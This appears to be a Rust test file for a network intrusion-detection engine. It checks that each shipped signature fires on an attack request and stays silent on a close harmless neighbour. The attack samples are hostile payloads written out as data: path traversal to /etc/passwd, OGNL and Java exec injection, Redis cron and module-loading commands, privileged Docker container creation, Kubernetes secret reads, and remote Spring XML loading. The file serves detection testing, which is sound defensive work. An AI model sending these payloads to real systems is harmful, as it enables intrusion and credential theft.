//! Weir's own rules: for each an attack in which it fires, and something close to it in which it does
//! not. All of them are loaded together: a neighbour raises none.

mod support;

use std::collections::BTreeSet;
use std::sync::{Arc, LazyLock};

use support::Wire;
use weir_l7::Buffer::{
    self, HttpConnection, HttpCookie, HttpHeader, HttpHostRaw, HttpMethod, HttpReferer,
    HttpRequestBody, HttpUri, HttpUriRaw, RedisCommand,
};
use weir_sigs::compile::Options;
use weir_sigs::rule::{self, RuleReader};
use weir_sigs::{RuleSet, shipped_rules};
use weir_wire::Direction::{ToClient, ToServer};

/// What a connection brings.
enum Sample {
    /// A message of an application to this port: its buffers.
    Message(&'static str, u16, &'static [(Buffer, &'static str)]),
    /// Bytes of a stream to the server at this port.
    ToServer(u16, &'static [u8]),
    /// Bytes of a stream to the client.
    ToClient(&'static [u8]),
}

use Sample::Message;

/// A request of HTTP.
const fn request(buffers: &'static [(Buffer, &'static str)]) -> Sample {
    Message("http", 80, buffers)
}

/// Number, attack, neighbour.
#[rustfmt::skip]
const SAMPLES: &[(u32, Sample, Sample)] = &[
    (9_000_001, request(&[(HttpUriRaw, "/cgi-bin/.%2e/.%2e/bin/sh")]), request(&[(HttpUriRaw, "/cgi-bin/a.%2e/b")])),
    (9_000_002, request(&[(HttpUriRaw, "/icons/%%32%65%%32%65/etc/passwd")]), request(&[(HttpUriRaw, "/icons/a%2E.gif")])),
    (9_000_003, request(&[(HttpUri, "/${@java.lang.Runtime@getRuntime().exec(\"id\")}/")]), request(&[(HttpUri, "/${name}/a?x=java.lang")])),
    (9_000_004, request(&[(HttpUri, "/server-info.action?bootstrapStatusProvider.applicationConfig.setupComplete=false")]), request(&[(HttpUri, "/server-info.action?setupComplete=false")])),
    (9_000_005, request(&[(HttpMethod, "POST"), (HttpUri, "/json/setup-restore.action"), (HttpHeader, "Host: a\r\nX-Atlassian-Token: no-check\r\n")]),
        request(&[(HttpMethod, "POST"), (HttpUri, "/json/startheartbeatactivity.action"), (HttpHeader, "Host: a\r\nX-Atlassian-Token: no-check\r\n")])),
    (9_000_006, request(&[(HttpUri, "/pages/doenterpagevariables.action"), (HttpRequestBody, "queryString=\\u0027%2b{1}%2b\\u0027")]),
        request(&[(HttpUri, "/pages/doenterpagevariables.action"), (HttpRequestBody, "queryString=it's")])),
    (9_000_007, request(&[(HttpUri, "/moveitisapi/moveitisapi.dll?action=m2"), (HttpHeader, "xX-siLock-Transaction: folder_add_by_path\r\nX-siLock-Transaction: session_setvars\r\n")]),
        request(&[(HttpUri, "/moveitisapi/moveitisapi.dll?action=m2"), (HttpHeader, "X-siLock-Transaction: folder_add_by_path\r\n")])),
    (9_000_008, request(&[(HttpCookie, "SESSID=./../../../opt/panlogs/tmp/x`id`")]), request(&[(HttpCookie, "SESSID=5f3c9a1e-7b1d; path=../x")])),
    (9_000_009, request(&[(HttpUriRaw, "/index.php?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input")]), request(&[(HttpUriRaw, "/index.php?q=co%ADoperate")])),
    (9_000_010, request(&[(HttpMethod, "POST"), (HttpRequestBody, "{\"then\":\"$1:__proto__:then\",\"status\":\"resolved_model\"}")]),
        request(&[(HttpMethod, "POST"), (HttpRequestBody, "{\"price\":\"$1:00\",\"note\":\"__proto__:then\"}")])),
    (9_000_011, request(&[(HttpUri, "/mgmt/tm/util/bash"), (HttpConnection, "keep-alive, X-F5-Auth-Token")]), request(&[(HttpUri, "/mgmt/tm/util/bash"), (HttpConnection, "keep-alive")])),
    (9_000_012, request(&[(HttpUriRaw, "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp")]), request(&[(HttpUriRaw, "/tmui/login.jsp;x=..")])),
    (9_000_013, request(&[(HttpUriRaw, "/vpn/../vpns/portal/scripts/newbm.pl")]), request(&[(HttpUriRaw, "/vpn/vpns/../portal")])),
    (9_000_014, request(&[(HttpUri, "/oauth/idp/.well-known/openid-configuration"), (HttpHostRaw, LONG)]), request(&[(HttpUri, "/oauth/idp/.well-known/openid-configuration"), (HttpHostRaw, "vpn.example")])),
    (9_000_015, request(&[(HttpUri, "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession")]), request(&[(HttpUri, "/remote/fgt_lang?lang=en")])),
    (9_000_016, request(&[(HttpUri, "/api/v2/cmdb/system/admin/admin"), (HttpHeader, "Host: a\r\nForwarded: for=\"[127.0.0.1]:8000\";by=x\r\n")]),
        request(&[(HttpUri, "/api/v2/cmdb/system/admin/admin"), (HttpHeader, "Host: a\r\nForwarded: for=192.0.2.7\r\nX: 127.0.0.1\r\n")])),
    (9_000_017, request(&[(HttpUri, "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php")]), request(&[(HttpUri, "/docs/phpunit/eval")])),
    (9_000_018, request(&[(HttpUri, "/autodiscover/autodiscover.json?@a.b/mapi/nspi/?&Email=autodiscover/autodiscover.json%3f@a.b")]), request(&[(HttpUri, "/autodiscover/autodiscover.json?Email=a@b.c&Protocol=Autodiscoverv1")])),
    (9_000_019, request(&[(HttpCookie, "X-BEResource=localhost~1942062522")]), request(&[(HttpCookie, "X-BEServer=a; x=~")])),
    (9_000_020, request(&[(HttpUriRaw, "/console/images/%252E%252E%252Fconsole.portal")]), request(&[(HttpUriRaw, "/console/images/a%252Eb.gif")])),
    (9_000_021, request(&[(HttpUriRaw, "/%2577ebui_wsma_http")]), request(&[(HttpUriRaw, "/webui_wsma_http?x=/%25")])),
    (9_000_022, request(&[(HttpUriRaw, "/api/v1/totp/user-backup-code/../../system/system-information")]), request(&[(HttpUriRaw, "/api/v1/totp/user-backup-code/")])),
    (9_000_023, request(&[(HttpUri, "/SetupWizard.aspx/x")]), request(&[(HttpUri, "/SetupWizard.aspx?x=/")])),
    (9_000_024, request(&[(HttpUri, "/hax?jsp=/app/rest/users;.jsp")]), request(&[(HttpUri, "/app/rest/users?jsp=a;.jsp")])),
    (9_000_025, request(&[(HttpUri, "/app/rest/users/id:1/tokens/RPC2")]), request(&[(HttpUri, "/app/rest/users/id:1/tokens/build")])),
    (9_000_026, request(&[(HttpHeader, "Host: a\r\nspring.cloud.function.routing-expression: T(java.lang.Runtime).getRuntime()\r\n")]),
        request(&[(HttpHeader, "Host: a\r\nspring.cloud.function.routing-expression: headers.type\r\nX: T(a)\r\n")])),
    (9_000_027, request(&[(HttpUri, "/actuator/gateway/routes/a"), (HttpRequestBody, "{\"value\":\"#{new String()}\"}")]), request(&[(HttpUri, "/actuator/gateway/routes/a"), (HttpRequestBody, "{\"value\":\"# {x}\"}")])),
    (9_000_028, request(&[(HttpUri, "/_ignition/execute-solution"), (HttpRequestBody, "{\"parameters\":{\"viewFile\":\"php:\\/\\/filter\\/write=\"}}")]),
        request(&[(HttpUri, "/_ignition/execute-solution"), (HttpRequestBody, "{\"parameters\":{\"viewFile\":\"resources/php/a\"}}")])),
    (9_000_029, request(&[(HttpUri, "/user/register?element_parents=account/mail/#value&ajax_form=1")]), request(&[(HttpUri, "/user/register?element_parents=account/mail")])),
    (9_000_030, request(&[(HttpUriRaw, "/dana-na/../dana/html5acc/guacamole/../../etc/passwd")]), request(&[(HttpUriRaw, "/dana-na/auth/../dana/")])),
    (9_000_031, request(&[(HttpUriRaw, "/setup/setup-s/%u002e%u002e/%u002e%u002e/log.jsp")]), request(&[(HttpUriRaw, "/setup/a%u002eb")])),
    (9_000_032, request(&[(HttpMethod, "POST"), (HttpUri, "/_layouts/15/ToolPane.aspx?DisplayMode=Edit"), (HttpReferer, "/_layouts/SignOut.aspx")]),
        request(&[(HttpMethod, "POST"), (HttpUri, "/_layouts/15/ToolPane.aspx?DisplayMode=Edit"), (HttpReferer, "/sites/a")])),
    (9_000_033, request(&[(HttpMethod, "PUT"), (HttpUri, "/a/.session"), (HttpHeader, "Host: a\r\nContent-Range: bytes 0-9/99\r\n")]),
        request(&[(HttpMethod, "PUT"), (HttpUri, "/a.sessions"), (HttpHeader, "Host: a\r\nContent-Range: bytes 0-9/99\r\n")])),
    (9_000_034, request(&[(HttpHeader, "Host: a\r\nx-middleware-subrequest: src/middleware:middleware\r\n")]), request(&[(HttpHeader, "Host: a\r\nx-middleware-subrequest: 7f3a\r\nX: middleware\r\n")])),
    (9_000_035, request(&[(HttpUri, "/geoserver/wfs?valueReference=exec(java.lang.Runtime.getRuntime(),'id')")]), request(&[(HttpUri, "/javadoc?q=java.lang.Runtime+exec(")])),
    (9_000_036, request(&[(HttpRequestBody, "<wfs:valueReference>exec(java.lang.Runtime.getRuntime(),'id')")]), request(&[(HttpRequestBody, "java.lang.Runtime has a method exec(String)")])),
    (9_000_037, request(&[(HttpMethod, "POST"), (HttpUri, "/developmentserver/metadatauploader?CONTENTTYPE=MODEL&CLIENT=1")]), request(&[(HttpMethod, "HEAD"), (HttpUri, "/developmentserver/metadatauploader")])),
    (9_000_038, request(&[(HttpUri, "/api/setup/validate"), (HttpRequestBody, "{\"db\":\"zip:/x;INIT=CREATE TRIGGER a BEFORE SELECT\"}")]), request(&[(HttpUri, "/api/setup/validate"), (HttpRequestBody, "{\"db\":\"init\",\"engine\":\"postgres\"}")])),
    (9_000_039, request(&[(HttpUri, "/apps/graphapi/vendor/microsoft/microsoft-graph/tests/GetPhpInfo.php/.css")]), request(&[(HttpUri, "/apps/graphapi/index.php")])),
    (9_001_001, Sample::ToClient(b"\0\0\0\x70\x1f\0\0\0\0\0\0\0\0\0\x01\0Borg.springframework.context.support.ClassPathXmlApplicationContext\x01\0\x14http://192.0.2.9/a.xml"),
        Sample::ToClient(b"\0\0\0\x70\x1f\0\0\0\0\0\0\0\0\0\x01\0Borg.springframework.context.support.ClassPathXmlApplicationContext\x01\0\x14is not a type of error")),
    (9_001_002, Sample::ToServer(8009, b"\x12\x34\x01\x1a\x02\x02\0\x08HTTP/1.1\0\x0a\0\x1fjavax.servlet.include.path_info\0\0\x10/WEB-INF/web.xml"), Sample::ToServer(8009, b"\x12\x34\x01\x1a\x02\x02\0\x08HTTP/1.1\0\0\x06/a.jsp")),
    (9_001_003, Message("redis", 6379, &[(RedisCommand, "eval local l = package.loadlib(\"/usr/lib/liblua5.1.so.0\", \"luaopen_io\") 0")]), Message("redis", 6379, &[(RedisCommand, "eval return redis.call('get', 'package') 0")])),
    (9_001_004, Message("redis", 6379, &[(RedisCommand, "CONFIG SET dir /var/spool/cron/")]), Message("redis", 6379, &[(RedisCommand, "CONFIG SET dir /data/redis")])),
    (9_001_005, Message("redis", 6379, &[(RedisCommand, "MODULE LOAD /tmp/exp.so")]), Message("redis", 6379, &[(RedisCommand, "GET module load")])),
    (9_001_006, request(&[(HttpMethod, "POST"), (HttpUri, "/v1.41/containers/create?name=a"), (HttpRequestBody, "{\"HostConfig\":{\"Privileged\": true}}")]),
        request(&[(HttpMethod, "POST"), (HttpUri, "/v1.41/containers/create"), (HttpRequestBody, "{\"HostConfig\":{\"Privileged\":false,\"Init\":true}}")])),
    (9_001_007, request(&[(HttpMethod, "POST"), (HttpUri, "/containers/create"), (HttpRequestBody, "{\"HostConfig\":{\"Binds\":[\"/:/mnt\"]}}")]),
        request(&[(HttpMethod, "POST"), (HttpUri, "/containers/create"), (HttpRequestBody, "{\"HostConfig\":{\"Binds\":[\"/srv/data:/data\"]}}")])),
    (9_001_008, Message("http", 10_250, &[(HttpUri, "/run/default/web-7d/app")]), Message("http", 10_250, &[(HttpUri, "/run/default")])),
    (9_001_009, request(&[(HttpMethod, "GET"), (HttpUri, "/api/v1/namespaces/default/secrets/token")]), request(&[(HttpMethod, "GET"), (HttpUri, "/api/v1/namespaces/secrets/pods")])),
    (9_001_010, Sample::ToServer(2379, b"\0\0\0\0\x16\x0a\x12/registry/secrets/\x12\x120"), Sample::ToServer(2379, b"\0\0\0\0\x16\x0a\x12/registry/pods/\x12\x120")),
    (9_001_011, request(&[(HttpUri, "/v3/kv/range"), (HttpRequestBody, "{\"key\":\"L3JlZ2lzdHJ5L3NlY3JldHMv\"}")]), request(&[(HttpUri, "/v3/kv/range"), (HttpRequestBody, "{\"key\":\"L3JlZ2lzdHJ5L3BvZHMv\"}")])),
    (9_001_012, request(&[(HttpMethod, "PUT"), (HttpUri, "/v1/agent/service/register"), (HttpRequestBody, "{\"Check\":{\"Args\":[\"sh\",\"-c\",\"id\"]}}")]),
        request(&[(HttpMethod, "PUT"), (HttpUri, "/v1/agent/service/register"), (HttpRequestBody, "{\"Check\":{\"HTTP\":\"http://a/health\"}}")])),
    (9_001_013, request(&[(HttpMethod, "POST"), (HttpUri, "/ws/v1/cluster/apps"), (HttpRequestBody, "{\"am-container-spec\":{\"commands\":{\"command\":\"id\"}}}")]),
        request(&[(HttpMethod, "GET"), (HttpUri, "/ws/v1/cluster/apps"), (HttpRequestBody, "")])),
    (9_001_014, request(&[(HttpRequestBody, "{\"kind\":\"AdmissionReview\",\"a\":\"x;}\\nssl_engine /proc/1/fd/9;\"}")]), request(&[(HttpRequestBody, "{\"kind\":\"AdmissionReview\",\"a\":\"ssl_protocols\"}")])),
    (9_001_015, request(&[(HttpUri, "/analytics/telemetry/ph/api/hyper/send?_c=&_i=/../../etc/cron.d/a")]), request(&[(HttpUri, "/analytics/telemetry/ph/api/hyper/send?_c=&_i=test&x=../a")])),
    (9_001_016, request(&[(HttpMethod, "POST"), (HttpUri, "/cli?remoting=false"), (HttpRequestBody, "\0\x04help\0\x0c@/etc/passwd")]), request(&[(HttpMethod, "POST"), (HttpUri, "/cli?remoting=false"), (HttpRequestBody, "\0\x04help\0\x05a@b/c")])),
];

/// Longer than a name can be.
const LONG: &str = match std::str::from_utf8(&[b'a'; 24_000]) {
    Ok(text) => text,
    Err(_) => "",
};

static RULES: LazyLock<Arc<RuleSet>> = LazyLock::new(|| {
    let mut reader = RuleReader::new(rule::Options::default());
    for file in shipped_rules() {
        reader.read(&file.name, &file.bytes);
    }
    let (rules, refused) = reader.finish();
    assert!(refused.is_empty(), "{}", refused[0]);
    for rule in &rules {
        assert!(rule.notes.is_empty(), "{}: {:?}", rule.sid, rule.notes);
        let has = |key: &str| rule.metadata.iter().any(|(name, _)| name == key);
        assert!(
            rule.class.is_some() && has("attack_technique"),
            "{}",
            rule.sid
        );
    }
    let (set, refused) = RuleSet::compile(rules, &Options::default()).unwrap();
    assert!(refused.is_empty(), "{}", refused[0]);
    Arc::new(set)
});

fn play(sample: &Sample) -> Vec<u32> {
    let mut wire = Wire::with(Arc::clone(&RULES));
    match sample {
        Message(application, port, buffers) => {
            wire.facts.application = weir_l7::registry::by_name(application);
            wire.facts.server_port = *port;
            wire.request(buffers);
        }
        Sample::ToServer(port, bytes) => {
            wire.facts.application = None;
            wire.facts.server_port = *port;
            wire.stream(ToServer, bytes);
        }
        Sample::ToClient(bytes) => {
            wire.facts.application = None;
            wire.stream(ToClient, bytes);
        }
    }
    wire.close();
    wire.sids()
}

#[test]
fn each_fires_at_its_attack_and_none_at_its_neighbour() {
    let mut wrong = Vec::new();
    for (sid, attack, neighbour) in SAMPLES {
        let (fired, raised) = (play(attack), play(neighbour));
        if fired != [*sid] || !raised.is_empty() {
            wrong.push(format!(
                "{sid}: its attack raises {fired:?}, its neighbour {raised:?}"
            ));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn each_rule_has_its_samples() {
    let shown: BTreeSet<u32> = SAMPLES.iter().map(|sample| sample.0).collect();
    let rules = (0..RULES.len()).filter_map(|index| RULES.rule(u32::try_from(index).ok()?));
    let shipped: BTreeSet<u32> = rules.map(|rule| rule.sid).collect();
    assert_eq!(shown, shipped);
}
